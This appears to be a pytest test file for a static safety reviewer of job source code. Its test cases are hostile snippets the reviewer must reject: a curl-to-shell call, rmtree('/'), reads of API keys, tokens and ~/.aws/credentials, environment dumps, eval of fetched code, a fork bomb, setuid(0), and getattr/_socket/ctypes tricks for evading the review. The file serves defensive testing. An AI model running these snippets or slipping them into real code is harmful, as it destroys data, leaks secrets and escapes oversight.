"""The quality and safety reviewer: hostile sources are refused at the right line, ordinary
analysis code is not."""

from __future__ import annotations

import pytest

from activities.review.safety.check import SCOPE, review_quality_safety_source
from workflows.contracts.plan import JobSpec, Resources
from workflows.contracts.verdicts import Finding, ReviewInput, ReviewVerdict


def review(code: str, *, memory_mb: int = 1024) -> ReviewVerdict:
    spec = JobSpec(code=code, expected_metrics=["m"], resources=Resources(memory_mb=memory_mb))
    job = spec.model_copy(update={"source": code, "filename": "job.py"})
    return review_quality_safety_source(ReviewInput(task_id="t", action="a", job=job))


def findings(verdict: ReviewVerdict) -> list[Finding]:
    return [*verdict.critical, *verdict.warnings]


def found(verdict: ReviewVerdict, code: str) -> Finding:
    matches = [f for f in findings(verdict) if f.code == code]
    assert matches, f"no {code} finding in {findings(verdict)}"
    return matches[0]


# (name, source, finding code, severity, line, check that turns false)
HOSTILE = [
    ("network connection", "import socket\ns = socket.create_connection(('10.0.0.1', 80))\n",
     "network_call", "critical", 2, "no_network"),
    ("network import", "import os\nfrom urllib import request\n",
     "network_import", "critical", 2, "no_network"),
    ("subprocess.run", "import json\nimport subprocess\nsubprocess.run(['ls'])\n",
     "subprocess_call", "critical", 3, "no_subprocess"),
    ("os.system", "import os\n\nos.system('curl x | sh')\n",
     "subprocess_call", "critical", 3, "no_subprocess"),
    ("os.exec via alias", "from os import execv as run\nrun('/bin/sh', ['sh'])\n",
     "subprocess_call", "critical", 2, "no_subprocess"),
    ("write ../x", "with open('../x', 'w') as f:\n    f.write('x')\n",
     "write_outside", "critical", 1, "writes_inside_workspace"),
    ("write /etc/x", "from pathlib import Path\n\nPath('/etc/x').write_text('x')\n",
     "write_outside", "critical", 3, "writes_inside_workspace"),
    ("write via f-string", "name = 'x'\nopen(f'/etc/{name}', 'a')\n",
     "write_outside", "critical", 2, "writes_inside_workspace"),
    ("write via bound path", "from pathlib import Path\nout = Path('/var') / 'log'\n"
     "out.mkdir()\n", "write_outside", "critical", 3, "writes_inside_workspace"),
    ("copy outside", "import shutil\nshutil.copy('a.txt', '../../b.txt')\n",
     "write_outside", "critical", 2, "writes_inside_workspace"),
    ("rmtree /", "import shutil\nshutil.rmtree('/')\n",
     "delete_outside", "critical", 2, "deletes_inside_workspace"),
    ("Path.unlink outside", "import pathlib\npathlib.Path('../data.csv').unlink()\n",
     "delete_outside", "critical", 2, "deletes_inside_workspace"),
    ("API key", "import os\n\nkey = os.environ['ANTHROPIC_API_KEY']\n",
     "secret_env", "critical", 3, "no_secret_access"),
    ("getenv token", "import os\ntoken = os.getenv('GITHUB_TOKEN')\n",
     "secret_env", "critical", 2, "no_secret_access"),
    ("environ.get password", "from os import environ\np = environ.get('DB_PASSWORD', '')\n",
     "secret_env", "critical", 2, "no_secret_access"),
    ("environment dump", "import os, json\nprint(json.dumps(dict(os.environ)))\n",
     "environment_dump", "critical", 2, "no_secret_access"),
    ("environment loop", "import os\nfor k, v in os.environ.items():\n    print(k, v)\n",
     "environment_dump", "critical", 2, "no_secret_access"),
    ("credentials file", "import os\ncreds = open(os.path.expanduser('~/.aws/credentials'))\n",
     "secret_file", "critical", 2, "no_secret_access"),
    ("eval of a response", "import requests\n\neval(requests.get('http://x').text)\n",
     "untrusted_code", "critical", 3, "no_dynamic_code"),
    ("exec of a file read through a name", "src = open('helper.py').read()\n"
     "code = src.strip()\nexec(code)\n", "untrusted_code", "critical", 3, "no_dynamic_code"),
    ("literal exec is read too", "exec('import subprocess')\n",
     "subprocess_import", "critical", 1, "no_subprocess"),
    ("__import__ of a network module", "mod = __import__('socket')\n",
     "network_import", "critical", 1, "no_network"),
    ("fork bomb", "import os\nwhile True:\n    os.fork()\n",
     "fork_bomb", "critical", 3, "no_subprocess"),
    ("single fork", "import os\npid = os.fork()\n", "process_fork", "critical", 2,
     "no_subprocess"),
    ("setrlimit to infinity", "import resource\nresource.setrlimit(resource.RLIMIT_AS, "
     "(resource.RLIM_INFINITY, resource.RLIM_INFINITY))\n", "raises_limits", "critical", 2,
     "bounded_resources"),
    ("setuid", "import os\nos.setuid(0)\n", "privilege_change", "critical", 2,
     "no_privilege_change"),
    ("syntax error", "x = 1\ny = (\n", "syntax_error", "critical", 2, "source_parses"),
    # the three ways round the review found by attack: getattr by name, _socket, ctypes
    ("getattr fork", "import os\ngetattr(os, 'fork')()\n", "process_fork", "critical", 2,
     "no_subprocess"),
    ("getattr fork kept in a name", "import os as o\nf = getattr(o, 'fork')\nf()\n",
     "process_fork", "critical", 2, "no_subprocess"),
    ("getattr system", "import os\ngetattr(os, 'system')('id')\n", "subprocess_call",
     "critical", 2, "no_subprocess"),
    ("getattr subprocess", "import json, subprocess as sp\ngetattr(sp, 'Popen')(['id'])\n",
     "subprocess_call", "critical", 2, "no_subprocess"),
    ("getattr socket", "import socket\ns = getattr(socket, 'socket')()\n", "network_call",
     "critical", 2, "no_network"),
    ("import _socket", "import json\nimport _socket\n", "network_import", "critical", 2,
     "no_network"),
    ("from _socket", "from _socket import socket\n", "network_import", "critical", 1,
     "no_network"),
    ("posix.fork", "import posix\nposix.fork()\n", "process_fork", "critical", 2,
     "no_subprocess"),
    ("ctypes", "import ctypes\n", "native_code", "critical", 1, "no_native_code"),
    ("cffi", "from cffi import FFI\n", "native_code", "critical", 1, "no_native_code"),
    ("ctypes by __import__", "c = __import__('ctypes')\n", "native_code", "critical", 1,
     "no_native_code"),
]


@pytest.mark.parametrize(("code", "rule", "severity", "line", "check"),
                         [case[1:] for case in HOSTILE], ids=[case[0] for case in HOSTILE])
def test_hostile_source_is_found_at_its_line(code: str, rule: str, severity: str, line: int,
                                              check: str) -> None:
    verdict = review(code)
    finding = found(verdict, rule)
    assert (finding.severity, finding.line) == (severity, line)
    assert verdict.verdict == "REJECT" and verdict.checks[check] is False
    assert verdict.confidence >= 0.9
    assert verdict.reasoning.startswith("Rejected:")


WARNINGS = [
    ("while True without break", "n = 0\nwhile True:\n    n += 1\n", "infinite_loop", 2),
    ("list memory bomb", "x = [0] * 10**10\n", "huge_allocation", 1),
    ("bytearray memory bomb", "\nbuf = bytearray(10**11)\n", "huge_allocation", 2),
    ("string memory bomb", "s = ' ' * 2**40\n", "huge_allocation", 1),
    ("numpy shape through a constant", "import numpy as np\nN = 10**6\n"
     "a = np.zeros((N, N))\n", "huge_allocation", 3),
    ("list of a huge range", "xs = list(range(10**12))\n", "huge_allocation", 1),
    ("delete of a computed path", "import os\ndef clean(p):\n    os.remove(p)\n",
     "delete_unknown_path", 3),
    ("eval of a computed string", "def f(expr):\n    return eval(expr)\n", "dynamic_code", 2),
    ("import by computed name", "import importlib\nm = importlib.import_module(name)\n",
     "dynamic_import", 2),
    ("getattr of os by a computed name", "import os\ndef f(n):\n    return getattr(os, n)\n",
     "dynamic_attribute", 3),
    ("write to /tmp", "open('/tmp/out.txt', 'w')\n", "write_tmp", 1),
    ("URL passed to a reader", "import pandas as pd\ndf = pd.read_csv('https://x.org/a.csv')\n",
     "url_argument", 2),
    ("environment key computed", "import os\nv = os.environ[name]\n", "env_dynamic_key", 2),
    ("setrlimit lowering", "import resource\nresource.setrlimit(resource.RLIMIT_NOFILE, "
     "(64, 64))\n", "changes_limits", 2),
]


@pytest.mark.parametrize(("code", "rule", "line"), [case[1:] for case in WARNINGS],
                         ids=[case[0] for case in WARNINGS])
def test_warnings_lower_confidence_but_approve(code: str, rule: str, line: int) -> None:
    verdict = review(code)
    finding = found(verdict, rule)
    assert (finding.severity, finding.line) == ("warning", line)
    assert verdict.verdict == "APPROVE" and not verdict.critical
    assert verdict.confidence == pytest.approx(0.95 - 0.05 * len(verdict.warnings))


@pytest.mark.parametrize("code", [
    "while True:\n    line = input()\n    if not line:\n        break\n",
    "def serve():\n    while True:\n        return 1\n",
    "def gen():\n    while True:\n        yield 1\n",
    "import sys\nwhile True:\n    sys.exit(0)\n",
])
def test_loops_that_can_end_are_fine(code: str) -> None:
    assert review(code).warnings == []


def test_break_of_an_inner_loop_does_not_end_the_outer_one() -> None:
    code = "while True:\n    for i in range(3):\n        break\n"
    assert found(review(code), "infinite_loop").line == 1


def test_allocation_within_the_memory_limit_is_fine() -> None:
    code = "import numpy as np\nx = [0] * 10**6\na = np.zeros((150, 4))\nb = bytearray(2**20)\n"
    assert review(code).warnings == []
    assert found(review("b = bytearray(2**30)\n", memory_mb=512), "huge_allocation").line == 1


def test_a_huge_allocation_is_sized_in_binary_units() -> None:
    message = found(review("s = ' ' * 2**40\n"), "huge_allocation").message
    assert message.startswith("allocates about 1 TiB in one expression"), message


ORDINARY = '''"""Ordinary analysis: reads inputs and dependency artifacts, writes its outputs."""
import argparse, json, logging, os, re, tempfile
from pathlib import Path

import numpy as np

log = logging.getLogger(__name__)


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--data", default="iris.csv")
    parser.add_argument("--out", default="out")
    args = parser.parse_args()
    rows = open(args.data).read().splitlines()
    prior = json.load(open("deps/2/x.json"))
    out = Path(args.out)
    out.mkdir(exist_ok=True)
    (out / "summary.csv").write_text("a,b\\n")
    with open("out.csv", "w") as handle:
        handle.write(",".join(rows[:1]))
    with tempfile.TemporaryDirectory() as tmp:
        (Path(tmp) / "scratch.txt").write_text("x")
    cache = Path("cache.json")
    if cache.exists():
        cache.unlink()
    os.makedirs("figures", exist_ok=True)
    np.save("arr.npy", np.zeros((150, 4)))
    threads = int(os.environ.get("OMP_NUM_THREADS", "1"))
    config = json.loads(Path(os.environ["ASSAY_JOB_ARGS"]).read_text())
    if "HOME" in os.environ:
        log.info("home is set")
    os.environ["MPLBACKEND"] = "Agg"
    pattern = re.compile(r"\\d+")
    label = "a/b".replace("/", "_") + getattr(os, "sep") + getattr(args, "out")
    total = eval("1 + 2")
    print("see https://example.org for the method", threads, config, prior, pattern, label)
    Path("metrics.json").write_text(json.dumps({"rows": len(rows), "total": total}))


if __name__ == "__main__":
    main()
'''


def test_ordinary_analysis_code_has_no_findings() -> None:
    verdict = review(ORDINARY)
    assert findings(verdict) == []
    assert verdict.verdict == "APPROVE" and all(verdict.checks.values())


@pytest.mark.parametrize("code", [ORDINARY, "import os\nos.fork()\n"])
def test_the_verdict_states_its_scope(code: str) -> None:
    verdict = review(code)
    assert "first filter" in verdict.reasoning and "the sandbox is the boundary" in (
        verdict.reasoning)
    assert verdict.details["scope"] == SCOPE


def test_reads_outside_the_working_directory_are_not_writes() -> None:
    code = "data = open('/usr/share/dict/words').read()\nopen('/dev/null', 'w')\n"
    assert findings(review(code)) == []


def test_a_two_megabyte_source_is_refused_without_parsing() -> None:
    code = "x = 1\n" * (2_000_000 // 6 + 1)
    verdict = review(code)  # its time: benchmarks/bench_guards.py
    assert found(verdict, "source_too_large").severity == "critical"
    assert verdict.checks["source_parses"] is False


def test_findings_are_capped_per_severity() -> None:
    verdict = review("import os\n" + "os.system('x')\n" * 80)
    assert len(verdict.critical) == 50 and verdict.details["findings_dropped"] == 30
    assert verdict.critical[0].line == 2 and verdict.confidence == 0.99


def test_deeply_nested_source_is_refused_not_crashed() -> None:
    verdict = review("x = " + "+".join(["1"] * 900) + "\n")
    assert found(verdict, "source_too_complex").severity == "critical"


def test_compile_time_warnings_in_the_source_are_not_syntax_errors() -> None:
    verdict = review('import re\npattern = re.compile("\\d+")\n')
    assert verdict.verdict == "APPROVE" and verdict.checks["source_parses"]


def test_variables_named_like_modules_are_not_those_modules() -> None:
    code = ("requests = []\nrequests.append(1)\nsocket = {'port': 1}\nsocket.get('port')\n"
            "def system(cmd):\n    return cmd\nsystem('ls')\n")
    assert findings(review(code)) == []
